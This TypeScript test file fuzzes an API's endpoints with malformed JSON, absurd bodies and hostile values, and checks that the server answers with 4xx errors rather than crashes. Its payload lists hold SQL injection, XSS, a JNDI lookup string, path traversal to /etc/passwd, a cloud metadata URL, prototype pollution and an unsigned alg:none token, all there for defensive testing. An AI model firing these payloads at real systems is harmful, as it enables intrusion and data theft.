import { expect } from 'chai'
import type { Route } from '../../src/edge/http/route.ts'
import { routes } from '../../src/edge/http/routes/index.ts'
import { call } from '../support/contract/call.ts'
import { Seller } from '../support/contract/Seller.ts'

const bytes = (...values: number[]): Uint8Array => Uint8Array.from(values)
const text = (value: string): Uint8Array => new TextEncoder().encode(value)
const joined = (...parts: Uint8Array[]): Uint8Array => Uint8Array.from(parts.flatMap((part) => [...part]))

/** Bytes that are no JSON text. */
const MALFORMED: Record<string, string | Uint8Array> = {
  'an open object': '{"a":',
  'an open list': '[1,',
  'an open text': '{"a":"b',
  'a comma at the end': '{"a":1,}',
  'a comment': '{"a":1}/* x */',
  'single quotes': "{'a':1}",
  'a name without quotes': '{a:1}',
  'two values': '{}{}',
  NaN: '{"a":NaN}',
  Infinity: '{"a":-Infinity}',
  'a leading zero': '{"a":01}',
  'a leading plus': '{"a":+1}',
  'a hex number': '{"a":0x1}',
  'a half escape': '{"a":"\\u12"}',
  'an unknown escape': '{"a":"\\x41"}',
  'a line break in a text': '{"a":"b\nc"}',
  'a control character in a text': joined(text('{"a":"'), bytes(0), text('"}')),
  'broken UTF-8': joined(text('{"a":"'), bytes(0xff, 0xfe), text('"}')),
  'an overlong sequence': joined(text('{"a":"'), bytes(0xc0, 0xaf), text('"}')),
  'a surrogate in UTF-8': joined(text('{"a":"'), bytes(0xed, 0xa0, 0x80), text('"}')),
  'UTF-16': joined(bytes(0xff, 0xfe), Uint8Array.from(Buffer.from('{}', 'utf16le'))),
  words: 'true false',
  'a form': 'name=x&email=y',
  markup: '<?xml version="1.0"?><a/>',
}

/** JSON that nobody should send. */
const ABSURD: Record<string, string> = {
  null: 'null',
  'a text': '"x"',
  'a number': '1',
  'a list': '[]',
  'a list of lists': `${'['.repeat(10_000)}${']'.repeat(10_000)}`,
  'a deep object': `${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`,
  __proto__: '{"__proto__":{"isActive":true}}',
  constructor: '{"constructor":{"prototype":{"isActive":true}}}',
  'toString and its kin': '{"toString":1,"valueOf":1,"hasOwnProperty":1,"then":1}',
  'an empty name': '{"":1}',
  'many fields': JSON.stringify(
    Object.fromEntries(Array.from({ length: 5_000 }, (_, at) => [`f${String(at)}`, at])),
  ),
}

/** Values that go wrong where they are believed. */
const NAUGHTY = [
  'null',
  'true',
  '-1',
  '1e400',
  '-1e400',
  '1e-400',
  '0.30000000000000004',
  '99999999999999999999999999',
  '[]',
  '{}',
  '[null]',
  '{"a":{"b":1}}',
  '{"$gt":""}',
  '{"length":1000000000}',
  '{"toString":"x"}',
  '[{"toString":null,"valueOf":1}]',
  ...[
    '',
    ' ',
    '\u0000',
    'a\u0000b',
    '\ud800',
    '\udfff\ud800',
    '\ufeff',
    '\u202egnp.exe',
    '\u200b\u200d',
    'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢',
    '👩‍👩‍👧‍👦🏳️‍🌈',
    '﷽',
    "' or '1'='1",
    "'; drop table tenant; --",
    '<script>alert(1)</script>',
    '{{constructor.constructor("return this")()}}',
    '${jndi:ldap://x.test/a}',
    '../../../../etc/passwd',
    '%00%2e%2e%2f',
    'undefined',
    'NaN',
    '1/0',
    '0x10',
    '١٢٣',
    'x'.repeat(20_000),
    'javascript:alert(1)',
    'http://169.254.169.254/latest/meta-data',
    'http://[::1]:99999/',
    '00000000-0000-0000-0000-000000000000',
  ].map((value) => JSON.stringify(value)),
]

const UNKNOWN = '00000000-0000-7000-8000-000000000000'
const withBody = routes.filter(({ method }) => method !== 'GET')
const withStruct = withBody.filter(({ body }) => body !== undefined)
const fieldsOf = ({ body }: Pick<Route, 'body'>): string[] => Object.keys((body?.schema ?? {}) as object)

describe('Hostile input', () => {
  let seller: Seller
  before(async function start() {
    this.timeout(60_000)
    seller = await Seller.register()
  })

  const pathOf = (path: string): string => path.replaceAll(/:\w+/g, UNKNOWN)
  const send = (method: string, path: string, raw: string | Uint8Array) =>
    seller.call(method, pathOf(path), { raw })

  for (const { method, path } of withBody) {
    it(`${method} ${path}: what is no JSON is 400 Malformed JSON`, async () => {
      for (const [what, raw] of Object.entries(MALFORMED)) {
        expect((await send(method, path, raw)).refusal, what).to.equal('400 Malformed JSON')
      }
    })
  }

  for (const { method, path } of withStruct) {
    it(`${method} ${path}: absurd JSON is a 4xx that says why`, async () => {
      for (const [what, raw] of Object.entries(ABSURD)) {
        const answer = await send(method, path, raw)
        expect(answer.status, `${what}: ${answer.text.slice(0, 200)}`).to.be.within(400, 499)
        expect(answer.error.message).not.to.equal('')
      }
    })
  }

  for (const { method, path, names } of withStruct
    .map((route) => ({ ...route, names: fieldsOf(route) }))
    .filter(({ names }) => names.length > 0)) {
    it(`${method} ${path}: naughty values in every field are never a 5xx`, async function () {
      this.timeout(60_000)
      for (const value of NAUGHTY) {
        const raw = `{${names.map((name) => `${JSON.stringify(name)}:${value}`).join(',')}}`
        const answer = await send(method, path, raw)
        expect(answer.status, `${raw.slice(0, 200)} → ${answer.text.slice(0, 200)}`).to.be.below(500)
      }
    })
  }

  it('a field of every name that JavaScript gives a meaning to is an unknown field, and named', async () => {
    for (const name of ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty']) {
      const raw = `{"name":"A","stockQuantity":1,${JSON.stringify(name)}:{"isActive":false}}`
      const answer = await send('POST', '/products', raw)
      expect(answer.status, name).to.equal(400)
      expect(Object.keys(answer.error.details ?? {}), name).to.deep.equal([name])
    }
  })

  it('ids and cursors of any kind are never a 5xx', async () => {
    const ids = ['%00', '%ff', '%', '..%2f..', "'", '%F0%9F%94%A5', 'null', '1e400', 'x'.repeat(4_000)]
    for (const { method, path } of routes.filter((route) => route.path.includes('/:'))) {
      for (const id of ids) {
        const { status, text: said } = await seller.call(method, path.replaceAll(/:\w+/g, id), {})
        expect(status, `${method} ${path} ${id.slice(0, 20)} ${said}`).to.be.within(400, 499)
      }
    }
    for (const cursor of ['x', '%00', '%F0%9F%94%A5', Buffer.from("' or 1=1").toString('base64url'), 'MQ']) {
      for (const path of [
        '/products',
        '/sessions',
        '/auctions',
        '/viewers',
        '/cart-events',
        '/webhook-deliveries',
      ]) {
        const { status, text: said } = await seller.call('GET', `${path}?cursor=${cursor}`)
        expect(status, `${path} ${cursor} ${said}`).to.be.below(500)
      }
    }
  })

  it('another content type is 415, whatever the body says', async () => {
    for (const type of [
      'text/plain',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=x',
      'x',
    ]) {
      const answer = await seller.call('POST', '/products', { raw: '{}', headers: { 'content-type': type } })
      expect(answer.refusal, type).to.equal('415 Unsupported content type')
    }
  })

  it('a body over 100 KiB is 413, told or not told in advance', async () => {
    const raw = JSON.stringify({ name: 'x'.repeat(110_000) })
    expect((await send('POST', '/products', raw)).refusal).to.equal('413 Request body too large')
  })

  it('credentials of any kind are 401', async () => {
    const given = [
      '',
      'Bearer',
      'Bearer ',
      'Basic',
      'Basic !!!',
      'Basic OjpA',
      'Digest x',
      `Bearer ${'x'.repeat(8_000)}`,
    ]
    const unsigned = [{ alg: 'none' }, { tenantId: seller.id, email: 'x', exp: 4e9 }]
      .map((part) => Buffer.from(JSON.stringify(part)).toString('base64url'))
      .join('.')
    for (const authorization of [...given, `Bearer ${unsigned}.`, `Basic ${btoa('a\u0000:b')}`]) {
      const answer = await call(seller.url, 'GET', '/auth/me', { headers: { authorization } })
      expect(answer.refusal, authorization.slice(0, 40)).to.equal('401 Authentication required')
    }
  })
})
